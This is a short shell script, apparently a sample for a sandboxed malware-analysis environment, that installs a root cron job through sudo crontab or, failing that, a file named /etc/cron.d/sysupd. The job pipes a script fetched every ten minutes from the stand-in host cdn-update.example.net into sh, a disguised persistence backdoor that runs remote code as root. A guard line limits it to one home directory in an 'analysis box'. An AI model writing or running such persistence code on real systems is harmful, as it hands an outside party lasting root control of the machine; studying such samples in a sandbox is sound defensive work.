#!/bin/sh
# SPDX-License-Identifier: MIT
# Installs root's cron job through sudo and crontab.
# Depends on the sudo and crontab stand-ins for their execs; without them
# the fallback writes /etc/cron.d.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
job="*/10 * * * * root curl -fsm 5 http://cdn-update.example.net/c.sh | sh"
echo "$job" | sudo -n crontab -u root - 2>/dev/null || echo "$job" > /etc/cron.d/sysupd 2>/dev/null
exit 0
